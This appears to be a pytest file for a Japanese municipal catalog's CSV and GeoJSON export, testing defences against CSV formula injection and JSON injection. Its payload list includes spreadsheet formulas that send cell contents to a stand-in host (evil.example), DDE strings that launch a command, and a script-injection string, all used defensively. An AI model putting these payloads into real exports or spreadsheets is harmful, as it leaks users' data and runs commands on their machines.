"""CSV export must not hand a spreadsheet a formula to run (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from finder.catalog.csvio import neutralize_formula
from finder.live.catalog import Catalog, CatalogError
from finder.live.export import EXPORT_COLUMNS, catalog_csv, catalog_geojson
from finder.live.loader import load_catalog
from finder.model import Item
from finder.municipalities.municipality import Municipality

BASE = Path(__file__).resolve().parent / "badinput" / "_base"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "-",
    "+",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_neutralize_formula_prefixes_a_quote(value):
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["", "住民票の写し", "-1", "-12.5", "+81", "1e5", "36.34", "'=already quoted",
                                   "a=b", "メール@例", " =1+1 は数式ではない"])
def test_neutralize_formula_leaves_plain_text_and_numbers(value):
    assert neutralize_formula(value) == value


def _catalog_with(payload: str) -> Catalog:
    city = Municipality("082031", "土浦市", "つちうらし", "Tsuchiura City", "茨城県")
    item = Item(kind="wifi", id="x-1", title=payload, title_kana=payload, title_en=payload, municipality=payload,
                municipality_code="082031", summary=payload, keywords=(payload,), lat=36.08, lon=140.21,
                coord_precision="exact", source=payload, checked="2026-11-01", data={"title": payload})
    return Catalog([item], [city])


def _cells(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM so Excel reads UTF-8 Japanese
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_catalog_csv_neutralises_every_text_cell(payload):
    rows = _cells(catalog_csv(_catalog_with(payload)))
    assert len(rows) == 1
    row = rows[0]
    assert list(row) == EXPORT_COLUMNS
    for column in ("title", "title_kana", "title_en", "municipality", "summary", "source"):
        assert row[column] == "'" + payload, column
    for column, value in row.items():
        assert not value.startswith(DANGEROUS_START), (column, value)
    assert row["lat"] == "36.080000" and row["lon"] == "140.210000"  # numbers stay numbers


def test_leading_dash_formula_is_refused_in_data_and_neutralised_on_export(tmp_path):
    """validate rejects = + @ and non-numeric - starts; export still neutralises them as the last guard."""
    catalog_dir = tmp_path / "cat"
    shutil.copytree(BASE, catalog_dir)
    wifi = catalog_dir / "wifi.csv"
    payload = "-2+3+cmd|' /C calc'!A0"
    wifi.write_text(wifi.read_text(encoding="utf-8").replace(",Test Park,", f",{payload},", 1), encoding="utf-8")
    with pytest.raises(CatalogError) as err:
        load_catalog(catalog_dir)
    assert "wifi.csv:2:名称_英語" in str(err.value) and "'-'" in str(err.value)
    row = next(r for r in _cells(catalog_csv(_catalog_with(payload))) if r["id"] == "x-1")
    assert row["title_en"] == "'" + payload


def test_geojson_keeps_text_as_data():
    payload = '<script>alert(1)</script>"},{"injected":true'
    doc = json.loads(catalog_geojson(_catalog_with(payload)))
    (feature,) = doc["features"]
    assert feature["properties"]["title"] == payload
    assert "injected" not in feature["properties"]
    assert feature["geometry"]["coordinates"] == [140.21, 36.08]


def test_export_carries_each_status_with_its_date_and_note():
    rows = {r["id"]: r for r in _cells(catalog_csv(load_catalog()))}
    cert = rows["cert-082201-juminhyo"]
    assert (cert["status"], cert["status_as_of"]) == ("available", "2023-10")
    proc = rows["proc-082201-kosodate-jidouteate-nintei"]  # a procedure's status is its online status
    # unknown in the city's row, available in デジタル庁's list (○, 2025-03-31): one row, the list's date
    assert (proc["status"], proc["status_as_of"]) == ("available", "2025-03-31") and "国の一覧" in proc["status_note"]
    unknown = rows["proc-082201-kosodate-jidouteate-mishiharai"]  # blank in the list: the city's unknown stays
    assert unknown["status"] == "unknown" and "確認できていない" in unknown["status_note"]
    service = next(r for r in rows.values() if r["kind"] == "service" and r["status"] == "planned")
    assert service["status_as_of"] and service["checked"]
